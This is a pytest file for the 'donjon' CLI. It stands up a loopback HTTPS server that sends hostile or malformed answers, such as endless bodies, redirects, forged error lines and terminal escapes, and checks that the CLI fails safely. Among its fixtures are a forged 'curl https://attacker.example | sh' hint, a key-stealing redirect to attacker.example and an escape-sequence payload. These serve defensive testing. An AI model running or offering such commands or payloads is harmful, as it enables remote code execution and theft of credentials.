"""The CLI against a server that answers wrongly or with hostile intent.

A real HTTPS server on loopback (its certificate trusted through
DONJON_CA_BUNDLE) answers every request one way: an endless body, a redirect
to another host, a body that is not JSON, a problem whose detail holds lines
that look like the CLI's own. The CLI must end with one clear error, never hold
an endless body in memory, never pass a redirect off as an answer, and never
print a line of the server's as one of its own.
"""

from __future__ import annotations

import contextlib
import http.server
import json
import os
import pty
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from donjon.cli.client import ApiClient, ApiError
from donjon.config import load_settings
from donjon.gateway.tls import create_self_signed

#: One way of answering: (handler) -> None, writing the whole response.
Answer = Callable[[http.server.BaseHTTPRequestHandler], None]


def _send(h: http.server.BaseHTTPRequestHandler, status: int, body: bytes, **headers: str) -> None:
    h.send_response(status)
    h.send_header("content-length", str(len(body)))
    for name, value in headers.items():
        h.send_header(name.replace("_", "-"), value)
    h.end_headers()
    h.wfile.write(body)


def _endless(h: http.server.BaseHTTPRequestHandler) -> None:
    h.send_response(200)
    h.send_header("content-type", "application/json")
    h.end_headers()  # no length: the body goes on until the connection closes
    chunk = b'"' + b"A" * (1 << 20) + b'",'
    with contextlib.suppress(OSError):
        h.wfile.write(b"[")
        for _ in range(4096):  # 4 GiB, more than any CLI should hold
            h.wfile.write(chunk)


def _trickle(h: http.server.BaseHTTPRequestHandler) -> None:
    h.send_response(200)
    h.send_header("content-type", "application/json")
    h.end_headers()
    with contextlib.suppress(OSError):
        for _ in range(600):  # a byte every 0.2 s: never idle long enough to time out
            h.wfile.write(b" ")
            h.wfile.flush()
            time.sleep(0.2)


def _redirect(h: http.server.BaseHTTPRequestHandler) -> None:
    _send(h, 307, b"", location="https://attacker.example/v1/keys")


def _not_json(h: http.server.BaseHTTPRequestHandler) -> None:
    _send(h, 200, b"{not json", content_type="application/json")


def _forged_lines(h: http.server.BaseHTTPRequestHandler) -> None:
    problem = {
        "detail": "refused\nhint: run `curl https://attacker.example | sh` to fix it",
        "problems": ["one\nerror: forged"],
        "request_id": "r1",
    }
    _send(h, 400, json.dumps(problem).encode(), content_type="application/problem+json")


@contextlib.contextmanager
def _server(tmp_path: Path, answer: Answer) -> Iterator[dict[str, str]]:
    """A loopback HTTPS server answering every request with `answer`; yields the CLI's env."""
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    create_self_signed(cert, key)

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def log_message(self, format: str, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            answer(self)

        do_POST = do_PUT = do_DELETE = do_GET

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    server.socket = context.wrap_socket(server.socket, server_side=True)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield {
            "DONJON_URL": f"https://localhost:{server.server_address[1]}",
            "DONJON_API_KEY": "dj_0123456789abcdef_not-a-real-key",
            "DONJON_CA_BUNDLE": str(cert),
            "DONJON_DATA_DIR": str(tmp_path / "data"),
            "PATH": "/usr/bin:/bin",
        }
    finally:
        server.shutdown()
        server.server_close()


def _cli(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "donjon.cli", *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=90,
        check=False,
    )


@pytest.mark.slow
def test_an_endless_body_is_cut_off(tmp_path: Path) -> None:
    """An answer with no end is refused once past the CLI's bound, not held in memory."""
    with _server(tmp_path, _endless) as env:
        done = _cli(env, "key", "ls")
    assert done.returncode == 1, done.stdout[:200]
    assert "Traceback" not in done.stderr
    assert "larger than" in done.stderr


def test_a_trickled_body_is_cut_off_at_the_deadline(tmp_path: Path) -> None:
    """An answer sent a byte at a time is refused once the client's timeout has passed."""
    with _server(tmp_path, _trickle) as env:
        client = ApiClient(load_settings(env), timeout=2.0)
        # (Before, the read never ended: each byte came within httpx's per-read timeout.)
        with pytest.raises(ApiError, match="did not finish its answer"):
            client.json("GET", "/v1/keys")
        client.close()


@pytest.mark.parametrize("args", [("key", "ls"), ("invoke", "hello", "--data", "{}")])
def test_a_redirect_is_an_error_not_an_answer(tmp_path: Path, args: tuple[str, ...]) -> None:
    """A redirect is not followed (the key stays home) and not printed as a result: exit 1."""
    with _server(tmp_path, _redirect) as env:
        done = _cli(env, *args)
    assert done.returncode == 1, done.stdout
    assert "Traceback" not in done.stderr
    assert "redirect" in done.stderr and "attacker.example" in done.stderr


def test_a_body_that_is_not_json_is_a_clear_error(tmp_path: Path) -> None:
    """Malformed JSON from the server is one line of error, not a traceback."""
    with _server(tmp_path, _not_json) as env:
        done = _cli(env, "key", "ls")
    assert done.returncode == 1, done.stdout
    assert "Traceback" not in done.stderr
    assert "not JSON" in done.stderr


def test_a_problem_detail_cannot_forge_the_cli_lines(tmp_path: Path) -> None:
    """No line of a problem document's text starts like the CLI's own `error:`/`hint:`."""
    with _server(tmp_path, _forged_lines) as env:
        done = _cli(env, "key", "ls")
    assert done.returncode == 1, done.stdout
    lines = done.stderr.splitlines()
    assert lines[0].startswith("error: 400 refused")
    assert not [line for line in lines if line.startswith("hint: run `curl")], lines
    assert not [line for line in lines[1:] if line.startswith("error:")], lines


def _answer_json(value: object) -> Answer:
    def answer(h: http.server.BaseHTTPRequestHandler) -> None:
        _send(h, 200, json.dumps(value).encode(), content_type="application/json")

    return answer


_ENTRY = {"request_id": "r1", "ts": 1.0, "version": 1, "output": "hi\n", "cursor": 7}


@pytest.mark.parametrize(
    ("answer", "args"),
    [
        ({"not": "a list"}, ()),
        (["not an entry"], ()),
        ([{**_ENTRY, "cursor": "not a cursor"}], ("-f",)),
        ([{**_ENTRY, "cursor": [1]}], ("-f",)),
    ],
    ids=["object", "string-entry", "string-cursor", "list-cursor"],
)
def test_logs_of_the_wrong_shape_are_a_clear_error(
    tmp_path: Path, answer: object, args: tuple[str, ...]
) -> None:
    """`donjon logs [-f]` given entries that are not what the node sends: one clear error
    and exit 1, never a traceback (nor, with -f, a loop on a cursor it cannot use)."""
    with _server(tmp_path, _answer_json(answer)) as env:
        done = _cli(env, "logs", "fn", *args)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "Traceback" not in done.stderr, done.stderr
    assert done.stderr.startswith("error: "), done.stderr


@pytest.mark.parametrize(
    "fields",
    [{"ts": "yesterday", "duration_ms": 5}, {"ts": 1e300}, {"ts": 10.0, "duration_ms": 1e300}],
    ids=["string-time", "far-time", "far-duration"],
)
def test_log_times_that_are_not_times_are_shown_as_unknown(
    tmp_path: Path, fields: dict[str, object]
) -> None:
    """An entry whose time or duration cannot be a time is printed (a time it cannot
    show as "-"), not a crash."""
    with _server(tmp_path, _answer_json([{**_ENTRY, **fields}])) as env:
        done = _cli(env, "logs", "fn")
    assert done.returncode == 0, done.stderr
    assert " START RequestId: r1 " in done.stdout, done.stdout
    assert "Traceback" not in done.stderr


def _nested(depth: int) -> Answer:
    def answer(h: http.server.BaseHTTPRequestHandler) -> None:
        _send(h, 200, b"[" * depth + b"]" * depth, content_type="application/json")

    return answer


#: Commands that read an answer and print it, each as a person and as a script would.
_READERS = [
    ("ls",),
    ("describe", "fn"),
    ("audit", "tail"),
    ("audit", "timeline"),
    ("audit", "checkpoints"),
    ("alerts",),
    ("dlq", "ls"),
    ("dlq", "show", "x"),
    ("key", "ls"),
    ("key", "rotate", "k"),
    ("role", "ls"),
    ("secret", "ls"),
    ("throttle", "ls"),
    ("throttle", "add", "k", "--reason", "r"),
    ("function", "quarantined"),
    ("quota", "show"),
    ("issuer", "ls"),
    ("permissions", "unused", "fn"),
    ("invoke", "fn", "--data", "{}", "--output", "json"),
]


#: Runs `donjon.cli.main` once per command of argv[1] (JSON) in one interpreter (one start,
#: not one per command) and prints, per command, how it ended and what it wrote on stderr.
_DRIVER = """
import contextlib, io, json, sys
from donjon.cli import main
ends = []
for args in json.loads(sys.argv[1]):
    sys.argv = ["donjon", *args]
    err = io.StringIO()
    with contextlib.redirect_stdout(io.StringIO()), contextlib.redirect_stderr(err):
        try:
            main()
            code = 0
        except SystemExit as e:
            code = e.code
        except Exception as e:
            code = type(e).__name__ + ": " + str(e)[:100]
    ends.append([args, code, err.getvalue()[:200]])
print(json.dumps(ends))
"""


@pytest.mark.parametrize(
    "answer",
    [
        _answer_json({}),
        _answer_json([{}]),
        _answer_json({"functions": [{}], "throttles": [{}], "quarantined": [{}]}),
        _answer_json([{"name": 5, "seq": "x", "ts": "x", "statements": 5, "manifest": 5}]),
        _nested(100_000),
    ],
    ids=["empty-object", "empty-entries", "entries-in-object", "wrong-types", "deep"],
)
def test_an_answer_of_the_wrong_shape_is_one_line_of_error(tmp_path: Path, answer: Answer) -> None:
    """Every command given an answer it cannot read (fields missing, of other types,
    nested past the parser's stack) ends with an `error:` line and exit 1, no traceback."""
    commands = [[*args, *output] for args in _READERS for output in ((), ("--output", "json"))]
    with _server(tmp_path, answer) as env:
        done = subprocess.run(
            [sys.executable, "-W", "ignore", "-c", _DRIVER, json.dumps(commands)],
            env=env,
            capture_output=True,
            text=True,
            timeout=300,
            check=True,
        )
    ends = json.loads(done.stdout)
    failed = [e for e in ends if e[1] != 0 and (e[1] != 1 or not e[2].startswith("error: "))]
    assert not failed, failed


def test_an_export_shown_on_a_terminal_cannot_drive_it(tmp_path: Path) -> None:
    """`donjon audit export` to a terminal shows a hostile export's control characters as
    escapes (to a file or a pipe it still writes the bytes as sent)."""
    hostile = b'{"type":"header"}\n\x1b]8;;https://attacker.example\x07x\x1b]8;;\x07\r\x1b[2J\n'

    def answer(h: http.server.BaseHTTPRequestHandler) -> None:
        _send(h, 200, hostile, content_type="application/jsonl")

    leader, follower = pty.openpty()
    with _server(tmp_path, answer) as env:
        done = subprocess.run(
            [sys.executable, "-m", "donjon.cli", "audit", "export"],
            env=env,
            stdout=follower,
            stderr=subprocess.PIPE,
            timeout=90,
            check=False,
        )
    os.close(follower)
    shown = b""
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # EIO: the terminal's other end is closed and drained
            break
        if not chunk:
            break
        shown += chunk
    os.close(leader)
    assert done.returncode == 0, done.stderr
    assert b"attacker.example" in shown, shown
    assert b"\x1b" not in shown and b"\x07" not in shown, shown


@pytest.mark.parametrize(
    ("size", "args"),
    [(40 << 20, ("key", "ls", "--output", "json")), (12 << 20, ("logs", "fn", "-n", "1"))],
    ids=["admin-list", "one-log-entry"],
)
def test_an_answer_far_larger_than_asked_for_is_refused(
    tmp_path: Path, size: int, args: tuple[str, ...]
) -> None:
    """An answer far past what the command can need (a key list of 40 MiB, one log entry
    of 12 MiB) is refused before it is parsed: parsed and printed, each MiB of JSON costs
    the CLI tens of MiB of memory (256 MiB of `[0,0,...]` took 11 GiB)."""
    body = b"[" + b"0," * (size // 2) + b"0]"

    def answer(h: http.server.BaseHTTPRequestHandler) -> None:
        _send(h, 200, body, content_type="application/json")

    with _server(tmp_path, answer) as env:
        done = _cli(env, *args)
    assert done.returncode == 1, done.stderr
    assert "larger than" in done.stderr, done.stderr
